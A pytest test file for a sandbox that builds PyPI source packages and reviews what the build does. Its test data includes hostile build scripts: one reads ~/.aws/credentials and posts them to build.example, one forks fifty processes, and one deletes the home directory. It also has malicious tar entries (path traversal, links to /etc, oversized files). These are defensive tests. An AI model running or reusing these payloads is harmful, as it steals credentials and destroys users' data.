"""pypi targets that are built from their sources: what a build does is a fact of PREPARE, and of no earlier phase."""

import tarfile
from typing import Any

import pytest

from e2e.bench import Bench, Reviewed
from fumehood.core import limits
from loopback.index import LoopbackIndex
from loopback.sources import Sources, building
from loopback.wheels import Wheel, server

pytestmark = pytest.mark.sandbox

POST = """
    import pathlib, urllib.request
    key = pathlib.Path.home().joinpath(".aws/credentials").read_bytes()
    pathlib.Path("wrote.txt").write_text("x")
    pathlib.Path.home().joinpath(".profile").write_text("y")
    urllib.request.urlopen("http://build.example/collect", data=b"from the build" + key).read()
"""
FORKS = """
    from subprocess import DEVNULL, Popen
    [Popen(["sleep", "600"], start_new_session=True, stdout=DEVNULL, stderr=DEVNULL) for _ in range(50)]
"""
DELETES = "import shutil, pathlib; shutil.rmtree(pathlib.Path.home(), ignore_errors=True); return 'x.whl'"
LEAF = Wheel(name="leaf", version="1.2", files={"leaf.py": "VALUE = 1\n"})


@pytest.fixture
def shop(bench: Bench, index: LoopbackIndex) -> Bench:
    """A bench whose Python index is the test's own."""
    bench.index = f"{index.url}/simple/"
    return bench


def build(shop: Bench, index: LoopbackIndex, sources: Sources, **changes: Any) -> Reviewed:
    """Publish the sources and review what is built from them."""
    said = changes.pop("said", {})
    index.publish_sources(sources.name, sources.version, sources.pack(), **said)
    return shop.pypi(sources.name, **{"prepare_profile": "python_build", **changes})


@pytest.mark.threat("R34")
def test_what_a_build_sends_and_writes_is_a_fact_of_prepare(shop: Bench, index: LoopbackIndex) -> None:
    review = build(shop, index, building(server(), POST), network_mode="SINKHOLE", canaries=True)
    assert review.ended == ("COMPLETED", ""), review.result["errors"]
    assert review.steps == [
        *("index", "fetch-sources", "lock-build", "build", "lock", "fetch", "install", "exercise"),
    ]
    sent = review.details("network.http", "PREPARE")
    assert [(one["host"], one["method"], one["target"]) for one in sent] == [("build.example", "POST", "/collect")]
    assert "from the build" in str(sent[0]["body"])
    assert {row["phase"] for row in review.rows("canary.read")} == {"PREPARE"}
    assert {row["phase"] for row in review.rows("canary.sent")} == {"PREPARE"}
    names = {path.rpartition("/")[2] for path in review.changes("PREPARE")}
    assert {"wrote.txt", ".profile", "unit_server-1.0-py3-none-any.whl"} <= names
    for phase in ("ACQUIRE", "FETCH", "INSTALL", "EXERCISE"):
        assert "build.example" not in str(review.details("network.http", phase) + review.details("network.dns", phase))
        assert review.changes(phase) == {}
    made = review.result["provenance"]
    assert made["preparation"] == {"profile": "python_build", "status": "completed"}
    assert made["entrypoint"] == ".venv/bin/unit-server"
    put = made["distribution"]["build"]
    assert (put["sources"], put["in_tree"], put["dependencies"]) == ("unit_server-1.0.tar.gz", True, 0)


def test_a_quiet_build_leaves_its_wheel_and_nothing_else(shop: Bench, index: LoopbackIndex) -> None:
    index.publish(LEAF)
    review = build(shop, index, building(server(requires=("leaf>=1",))), network_mode="SINKHOLE", canaries=True)
    assert review.ended == ("COMPLETED", ""), review.result["errors"]
    assert [path.rpartition("/")[2] for path in review.changes("PREPARE")] == ["unit_server-1.0-py3-none-any.whl"]
    assert review.rows("canary.read") == review.rows("canary.sent") == []
    assert review.details("network.http", "PREPARE") == review.details("network.dns", "PREPARE") == []
    assert review.result["provenance"]["lockfile"]["packages"] == 2


def test_a_backend_of_the_index_is_locked_fetched_and_used(shop: Bench, index: LoopbackIndex) -> None:
    index.publish(LEAF)
    review = build(shop, index, building(server(), "import leaf; assert leaf.VALUE == 1", requires=("leaf>=1",)))
    assert review.ended == ("COMPLETED", ""), review.result["errors"]
    assert "fetch-build" in review.steps
    assert review.result["provenance"]["distribution"]["build"]["dependencies"] == 1
    assert review.changes("FETCH") == {}


@pytest.mark.threat("R34")
def test_without_the_profile_nothing_is_built_and_the_profile_is_named(shop: Bench, index: LoopbackIndex) -> None:
    review = build(shop, index, building(server(), POST), prepare_profile="NONE", network_mode="SINKHOLE")
    assert review.ended == ("RUNTIME_UNSUPPORTED", "no_wheel")
    assert "python_build" in review.message
    assert review.steps == ["index"]


@pytest.mark.parametrize(
    ("act", "ended", "status"),
    [
        ("raise SystemExit(3)", ("TARGET_FAILED", "build_failed"), "failed"),
        ("return 'nothing-1.0-py3-none-any.whl'", ("TARGET_FAILED", "build_failed"), "failed"),
        ("import time; time.sleep(600)", ("TIMEOUT", "deadline"), "timeout"),
        (FORKS, ("COMPLETED", ""), "completed"),
        (DELETES, ("TARGET_FAILED", "build_failed"), "failed"),
    ],
    ids=["fails", "leaves-nothing", "never-ends", "forks", "deletes"],
)
def test_a_build_that_does_not_build_ends_in_its_state(
    shop: Bench, index: LoopbackIndex, act: str, ended: tuple[str, str], status: str
) -> None:
    shop.set("review", prepare_seconds=15.0)
    review = build(shop, index, building(server(), act))
    assert review.ended == ended, review.result["errors"]
    assert review.result["provenance"]["preparation"]["status"] == status


def member(name: str, kind: bytes = tarfile.REGTYPE, **changes: Any) -> tarfile.TarInfo:
    made = tarfile.TarInfo(name)
    made.type = kind
    for key, value in changes.items():
        setattr(made, key, value)
    return made


@pytest.mark.threat("R34")
@pytest.mark.parametrize(
    "hostile",
    [
        member("unit_server-1.0/../../escaped"),
        member("/var/escaped"),
        member("unit_server-1.0/link", tarfile.SYMTYPE, linkname="/etc"),
        member("unit_server-1.0/link", tarfile.LNKTYPE, linkname="unit_server-1.0/backend.py"),
        member("unit_server-1.0/huge", size=600 * limits.MIB),
    ],
    ids=["climbs", "absolute", "link", "hard-link", "huge"],
)
def test_hostile_sources_are_refused_before_anything_of_them_runs(
    shop: Bench, index: LoopbackIndex, hostile: tarfile.TarInfo
) -> None:
    made = building(server(), members=(hostile,))
    review = build(shop, index, made)
    assert review.ended == ("TARGET_FAILED", "bad_sources"), review.result["errors"]
    assert review.steps == ["index", "fetch-sources"]
    assert review.result["provenance"]["preparation"]["status"] == "not_reached"


@pytest.mark.threat("R34")
def test_sources_that_have_not_their_hash_are_never_unpacked(shop: Bench, index: LoopbackIndex) -> None:
    review = build(shop, index, building(server()), said={"hashes": {"sha256": "0" * 64}})
    assert review.ended == ("TARGET_FAILED", "integrity_mismatch"), review.result["errors"]
    assert review.steps == ["index", "fetch-sources"]
